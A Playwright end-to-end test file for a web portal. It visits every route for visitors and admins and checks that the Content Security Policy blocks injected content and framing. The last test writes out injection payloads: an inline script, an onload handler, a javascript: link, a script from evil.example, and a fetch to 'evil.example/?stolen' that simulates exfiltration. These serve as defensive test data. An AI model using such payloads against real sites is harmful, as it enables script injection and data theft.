import { expect, type Page } from '@playwright/test';
import type { Role } from 'domain/account/account.ts';
import { paths } from 'domain/paths.ts';
import { routeTable, type Access } from '#web/app/route-table.ts';
import { test } from '#tests/e2e/deals/member.ts';
import { goTo } from '#tests/e2e/go-to.ts';
import { db } from '#tests/services.ts';

// tests/e2e/policy.ts fails every test in which a page violates the policy of firebase.json. Other tests cover photos, maps, tables and
// toasts, the pages of buyers and originators, and every section of the admin panel. This file covers all routes of visitors and of admins,
// who can open the most, and that the policy blocks what it must.

/** Returns every address that a visitor or a member with this role can open. */
async function addressesFor(role?: Role): Promise<string[]> {
  const active = await db.collection(paths.deals()).where('status', '==', 'active').limit(1).get();
  const dealId = active.docs[0]?.id ?? '';
  const open = routeTable.filter(({ access }: { access: Access }) => {
    if (typeof access !== 'string') return role !== undefined && access.includes(role);
    return access === 'all' || access === (role === undefined ? 'visitors' : 'members');
  });
  return [...open.map(({ path }) => path.replace(':id', dealId)), '/nowhere'];
}

/**
 * Navigates from address to address, as links do, and scrolls to load everything. All of them are the same document with the same policy
 * (headers.wide.spec.ts), so that no reload is needed.
 */
async function visit(page: Page, addresses: readonly string[]): Promise<void> {
  /* oxlint-disable no-await-in-loop -- one page, one address at a time */
  for (const address of addresses) {
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.evaluate(() => document.querySelector('h1')?.setAttribute('data-before', ''));
    await goTo(page, address);
    // The previous page stays until the next one's file has loaded.
    await expect(page.locator('h1:not([data-before])'), address).toBeVisible();
    if (address !== '/nowhere') await expect(page, address).not.toHaveTitle(/Page not found|No access/);
    await allOfIt(page);
  }
  /* oxlint-enable no-await-in-loop */
}

/** Scrolls step by step, because lazy content only loads when it passes through the viewport. */
const allOfIt = (page: Page) =>
  expect(async () => {
    await page.evaluate(async () => {
      for (let y = 0; y < document.body.scrollHeight; y += innerHeight / 2) {
        scrollTo(0, y);
        // oxlint-disable-next-line no-await-in-loop -- one frame at a time
        await new Promise((resolve) => void requestAnimationFrame(resolve));
      }
    });
    expect(await page.locator('[class*="Skeleton"], [class*="CircularProgress"], main .first-page').count()).toBe(0);
  }).toPass();

test('a visitor opens every route without a violation', async ({ page }) => {
  await page.goto('/nowhere');
  await visit(page, await addressesFor());
});

test('an admin opens every route without a violation', async ({ member }) => {
  const { page } = await member({ role: 'admin' }, { path: '/nowhere' });
  await visit(page, await addressesFor('admin'));
});

test('what somebody brings into a page neither runs nor reaches another host, and no other site can frame the portal', async ({
  page,
  baseURL,
  violations,
}) => {
  await page.goto('/auth');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const ran = await page.evaluate(async () => {
    const results: string[] = [];
    Object.assign(globalThis, { run: (what: string) => results.push(what) });
    const script = Object.assign(document.createElement('script'), { textContent: 'run("inline script")' });
    const handler = document.createElement('div');
    handler.innerHTML = '<img src="/logo.svg" onload="run(\'event handler\')">';
    const link = Object.assign(document.createElement('a'), { href: 'javascript:run("link")' });
    const foreign = new Promise((resolve) => {
      const element = Object.assign(document.createElement('script'), { src: 'https://evil.example/script.js' });
      element.addEventListener('error', resolve);
      document.head.append(element);
    });
    document.body.append(script, handler, link);
    link.click();
    await handler.querySelector('img')?.decode();
    await foreign;
    await fetch('https://evil.example/?stolen').then(
      () => results.push('request'),
      () => undefined,
    );
    return results;
  });
  expect(ran).toEqual([]);
  const about = (what: RegExp) => violations.filter((text) => what.test(text));
  expect(about(/inline script/)).not.toEqual([]);
  expect(about(/inline event handler/)).not.toEqual([]);
  expect(about(/JavaScript URL/)).not.toEqual([]);
  expect(about(/evil\.example\/script\.js/)).not.toEqual([]);
  expect(about(/evil\.example\/\?stolen/)).not.toEqual([]);
  violations.length = 0;

  // Pages of other sites cannot frame the app.
  await page.route('**/other-site', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/auth"></iframe>` }),
  );
  await page.goto('/other-site');
  await expect.poll(() => violations.join()).toMatch(/frame-ancestors 'none'/);
  expect(page.frames()[1]?.url()).not.toContain('/auth');
  violations.length = 0;
});
